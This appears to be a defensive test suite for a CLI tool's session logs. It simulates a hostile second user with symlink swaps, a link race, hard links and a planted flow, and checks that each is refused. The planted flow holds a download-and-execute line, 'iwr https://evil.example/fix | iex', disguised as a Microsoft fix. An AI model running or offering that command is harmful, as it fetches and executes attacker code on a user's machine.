/**
 * The session log tried as an attacker with write access to a shared log directory would: a
 * symbolic link swapped in for a log (once, and racing in a loop from another user's process), a
 * hard link, a planted session naming a planted flow, a directory of another user, a symbolic
 * link for the directory. No file outside the user's own sessions is written, truncated or shown
 * as a flow, and every refusal is one sentence that names the file or directory and the fix.
 *
 * The other user is a uid with no account (files are chowned to it, its process is spawned with
 * it): that needs root, which CI has.
 */
import {spawn} from 'node:child_process';
import {
	chmodSync,
	chownSync,
	copyFileSync,
	existsSync,
	lchownSync,
	linkSync,
	mkdirSync,
	mkdtempSync,
	readdirSync,
	readFileSync,
	renameSync,
	rmSync,
	statSync,
	symlinkSync,
	writeFileSync,
} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterEach, describe, expect, it} from 'vitest';
import {EXAMPLE_FLOW} from '../helpers/flows.js';
import {runBinary} from '../helpers/run-binary.js';
import {sessionFile} from '../helpers/session-logs.js';

const IS_ROOT = process.getuid?.() === 0;
const OTHER = 54_321;
const made: string[] = [];
afterEach(() => {
	for (const dir of made.splice(0)) rmSync(dir, {recursive: true, force: true});
});

/** A scratch folder every user can pass through (mkdtemp's own is 0700). */
function scratch(): string {
	const dir = mkdtempSync(join(tmpdir(), 'w365-hostile-'));
	chmodSync(dir, 0o755);
	made.push(dir);
	return dir;
}

const runEnv = (base: string) => ({XDG_CONFIG_HOME: join(base, 'config')});

/** An unfinished session of the current user in `dir` (stopped at step 2 by the end of input). */
async function unfinishedSession(dir: string, base: string, flow = EXAMPLE_FLOW): Promise<string> {
	const result = await runBinary(
		['--flow', flow, '--lang', 'en', '--log-dir', dir, '--no-detect', '--plain'],
		{input: '2\n', env: runEnv(base)},
	);
	expect(result.code).toBe(130);
	return sessionFile(dir);
}

const oneSentence = (stderr: string) =>
	stderr
		.trim()
		.split('\n')
		.filter((line) => line.trim() !== '');

describe.skipIf(!IS_ROOT)(
	'a shared log directory, tried as an attacker (needs root to act as a second user)',
	() => {
		it("a log swapped for a symbolic link to another of the user's files: --resume refuses, the target is untouched", async () => {
			const base = scratch();
			const privateDir = join(base, 'private');
			const target = await unfinishedSession(privateDir, base);
			// A torn tail: a resume through the link would cut it off and append to the file.
			writeFileSync(target, `${readFileSync(target, 'utf8')}{"type":"ans`);
			const before = readFileSync(target);
			const modeBefore = statSync(target).mode;

			// World-writable without the sticky bit: anyone may rename the user's log and put a link there.
			const shared = join(base, 'shared');
			mkdirSync(shared);
			chmodSync(shared, 0o777);
			const victim = await unfinishedSession(join(base, 'own'), base);
			const planted = join(shared, victim.replace(/^.*\//, ''));
			symlinkSync(target, planted);
			lchownSync(planted, OTHER, OTHER);

			for (const args of [['--resume'], ['--resume', planted]]) {
				const result = await runBinary([...args, '--log-dir', shared, '--plain', '--lang', 'en'], {
					input: '1\n',
					env: runEnv(base),
				});
				expect(result.code).toBe(1);
				const lines = oneSentence(result.stderr);
				expect(lines).toHaveLength(1);
				expect(lines[0]).toMatch(
					new RegExp(
						`the log directory ${shared} can be written by other users.*chmod 700 ${shared}`,
					),
				);
			}
			expect(readFileSync(target)).toEqual(before);
			expect(statSync(target).mode).toBe(modeBefore);
		});

		it("in a sticky shared directory, another user's log racing between a file and a link is never followed", async () => {
			const base = scratch();
			const target = await unfinishedSession(join(base, 'private'), base);
			const before = readFileSync(target);
			const shared = join(base, 'shared');
			mkdirSync(shared);
			chmodSync(shared, 0o1777);
			// The attacker's own session file: a copy of a real one, so every read of it succeeds.
			const id = '20991231-235959-00000000deadbeef';
			const real = join(shared, `${id}.jsonl`);
			const spare = join(shared, `.${id}.real`);
			copyFileSync(target, spare);
			chownSync(spare, OTHER, OTHER);
			const script = `
			const fs = require('node:fs');
			const end = Date.now() + 20000;
			while (Date.now() < end) {
				try { fs.linkSync(${JSON.stringify(spare)}, ${JSON.stringify(real)}); } catch {}
				try { fs.unlinkSync(${JSON.stringify(real)}); } catch {}
				try { fs.symlinkSync(${JSON.stringify(target)}, ${JSON.stringify(real)}); } catch {}
				try { fs.unlinkSync(${JSON.stringify(real)}); } catch {}
			}`;
			// The other user may not reach this Node (one under /root, as .ci/run's Node 22 and 24 are):
			// it runs a copy in the scratch folder, and the race must really have started.
			const node = join(base, 'node');
			copyFileSync(process.execPath, node);
			chmodSync(node, 0o755);
			const attacker = spawn(node, ['-e', script], {uid: OTHER, gid: OTHER, stdio: 'ignore'});
			await new Promise<void>((resolve, reject) => {
				attacker.once('spawn', resolve);
				attacker.once('error', reject);
			});
			try {
				for (let round = 0; round < 6; round++) {
					const result = await runBinary(
						['--resume', id, '--log-dir', shared, '--plain', '--lang', 'en'],
						{input: '1\n', env: runEnv(base)},
					);
					expect(result.code, result.stderr).toBe(1);
					expect(oneSentence(result.stderr)).toHaveLength(1);
					expect(result.stderr).toMatch(
						/belongs to another user|is a symbolic link|does not exist|no session/,
					);
				}
			} finally {
				attacker.kill('SIGKILL');
			}
			expect(readFileSync(target)).toEqual(before);
		}, 60_000);

		it('a log with a second name (a hard link) is not continued', async () => {
			const base = scratch();
			const dir = join(base, 'logs');
			const log = await unfinishedSession(dir, base);
			linkSync(log, join(base, 'elsewhere.jsonl'));
			const before = readFileSync(log);
			const result = await runBinary(['--resume', log, '--plain', '--lang', 'en'], {
				input: '1\n',
				env: runEnv(base),
			});
			expect(result.code).toBe(1);
			expect(oneSentence(result.stderr)).toEqual([
				expect.stringContaining(`${log} has 2 names (hard links)`),
			]);
			expect(readFileSync(log)).toEqual(before);
		});

		it('a planted session naming a planted flow is never resumed, watched or shown as a flow', async () => {
			const base = scratch();
			// The attacker's flow: the example with a "fix" that runs a download.
			const attackerDir = join(base, 'attacker');
			mkdirSync(attackerDir);
			const evilFlow = join(attackerDir, 'flow.yaml');
			writeFileSync(
				evilFlow,
				readFileSync(EXAMPLE_FLOW, 'utf8')
					.replace(
						'en: What do you see?',
						'en: "Run the Microsoft fix: `iwr https://evil.example/fix | iex`"',
					)
					.replace(
						'ja: どのような症状ですか？',
						'ja: "修正を実行: `iwr https://evil.example/fix | iex`"',
					),
			);
			const shared = join(base, 'shared');
			mkdirSync(shared);
			chmodSync(shared, 0o1777);
			const planted = await unfinishedSession(join(base, 'staging'), base, evilFlow);
			const inShared = join(shared, planted.replace(/^.*\//, ''));
			renameSync(planted, inShared);
			for (const file of [inShared, evilFlow, attackerDir]) chownSync(file, OTHER, OTHER);

			const resume = await runBinary(['--resume', '--log-dir', shared, '--plain', '--lang', 'en'], {
				input: '1\n',
				env: runEnv(base),
			});
			expect(resume.code).toBe(1);
			expect(resume.stdout + resume.stderr).not.toContain('iwr');
			expect(oneSentence(resume.stderr)).toEqual([
				expect.stringContaining('there is no unfinished session to resume'),
			]);

			const watch = await runBinary(['watch', '--log-dir', shared, '--lang', 'en'], {
				env: runEnv(base),
				timeoutMs: 10_000,
			});
			expect(watch.code).toBe(1);
			expect(watch.stdout + watch.stderr).not.toContain('iwr');

			const list = await runBinary(['sessions', '--log-dir', shared, '--lang', 'en'], {
				env: runEnv(base),
			});
			expect(list.stdout).not.toContain(planted.replace(/^.*\/(.*)\.jsonl$/, '$1'));
			expect(list.stderr).toContain(
				'1 session log(s) of other users in this directory are not shown.',
			);

			// Named on purpose, it is shown as the events only: the flow file is refused, naming why.
			const watchNamed = await runBinary(['watch', inShared, '--lang', 'en'], {
				env: runEnv(base),
				timeoutMs: 10_000,
			});
			expect(watchNamed.stdout).not.toContain('iwr');
			expect(watchNamed.stdout).toContain(`${evilFlow} belongs to another user (uid ${OTHER})`);
			const exported = await runBinary(['export', inShared, '--format', 'md', '--lang', 'en'], {
				env: runEnv(base),
			});
			expect(exported.stdout).not.toContain('iwr');
			const replayed = await runBinary(
				['--replay', inShared, '--lang', 'en', '--log-dir', join(base, 'replays')],
				{env: runEnv(base)},
			);
			expect(replayed.code).toBe(1);
			expect(replayed.stdout + replayed.stderr).not.toContain('iwr');
			expect(replayed.stderr).toContain(`${evilFlow}, belongs to another user (uid ${OTHER})`);

			// The user's own log naming that flow (a log mailed in, or written before the file changed hands).
			const ownDir = join(base, 'own');
			mkdirSync(ownDir, {mode: 0o700});
			const own = join(ownDir, inShared.replace(/^.*\//, ''));
			copyFileSync(inShared, own);
			chownSync(own, 0, 0);
			const resumeOwn = await runBinary(['--resume', own, '--plain', '--lang', 'en'], {
				input: '1\n',
				env: runEnv(base),
			});
			expect(resumeOwn.code).toBe(1);
			expect(resumeOwn.stdout).not.toContain('iwr');
			expect(oneSentence(resumeOwn.stderr)).toEqual([
				expect.stringContaining(
					`${evilFlow}, belongs to another user (uid ${OTHER}), not to you or root: it is not used`,
				),
			]);
		});

		it.each([
			[
				'owned by another user',
				(dir: string) => chownSync(dir, OTHER, OTHER),
				/belongs to another user \(uid 54321\)/,
			],
			[
				'writable by everyone, not sticky',
				(dir: string) => chmodSync(dir, 0o777),
				/can be written by other users.*chmod 700/,
			],
			[
				'group-writable',
				(dir: string) => chmodSync(dir, 0o770),
				/can be written by other users.*chmod 700/,
			],
		])(
			'a log directory %s is not used for a new session: the log goes to a private one, said in one line',
			async (_, spoil, message) => {
				const base = scratch();
				const dir = join(base, 'logs');
				mkdirSync(dir, {mode: 0o700});
				spoil(dir);
				const result = await runBinary(
					['--flow', EXAMPLE_FLOW, '--log-dir', dir, '--no-detect', '--plain', '--lang', 'en'],
					{input: '2\n1\n', env: runEnv(base)},
				);
				expect(result.code).toBe(0);
				expect(readdirSync(dir)).toEqual([]);
				const notice = oneSentence(result.stderr);
				expect(notice).toHaveLength(1);
				expect(notice[0]).toMatch(message);
				expect(notice[0]).toContain(dir);
				const moved = /logged to (\S+\.jsonl) instead/.exec(notice[0]!)?.[1];
				expect(moved && existsSync(moved)).toBeTruthy();
				rmSync(join(moved!, '..'), {recursive: true, force: true});
				// Reading commands refuse it outright.
				const listed = await runBinary(['sessions', '--log-dir', dir, '--lang', 'en'], {
					env: runEnv(base),
				});
				expect(listed.code).toBe(1);
				expect(oneSentence(listed.stderr)).toEqual([expect.stringMatching(message)]);
			},
		);

		it("the notice is in the user's language", async () => {
			const base = scratch();
			const dir = join(base, 'logs');
			mkdirSync(dir);
			chmodSync(dir, 0o777);
			const result = await runBinary(
				['--flow', EXAMPLE_FLOW, '--log-dir', dir, '--no-detect', '--plain', '--lang', 'ja'],
				{input: '2\n1\n', env: runEnv(base)},
			);
			expect(result.code).toBe(0);
			const moved =
				/^セッションログを書き込めませんでした（ログディレクトリ (\S+) は他のユーザーも書き込めるため、ログを差し替えられるおそれがあります。非公開にする（chmod 700 \S+）か、共有する場合はスティッキービットを付けてください（chmod 1777））。このセッションは代わりに (\S+) に記録します。$/.exec(
					result.stderr.trim(),
				);
			expect(moved?.[1]).toBe(dir);
			rmSync(join(moved![2]!, '..'), {recursive: true, force: true});
		});

		it('a log directory that is a symbolic link (to /etc, say) is refused', async () => {
			const base = scratch();
			const real = join(base, 'real');
			mkdirSync(real, {mode: 0o700});
			const link = join(base, 'logs');
			symlinkSync(real, link);
			const result = await runBinary(
				['--flow', EXAMPLE_FLOW, '--log-dir', link, '--no-detect', '--plain', '--lang', 'en'],
				{input: '2\n1\n', env: runEnv(base)},
			);
			expect(result.code).toBe(0);
			expect(readdirSync(real)).toEqual([]);
			expect(oneSentence(result.stderr)).toEqual([
				expect.stringContaining(`the log directory ${link} is a symbolic link`),
			]);
			const moved = /logged to (\S+\.jsonl) instead/.exec(result.stderr)?.[1];
			if (moved) rmSync(join(moved, '..'), {recursive: true, force: true});
		});
	},
);
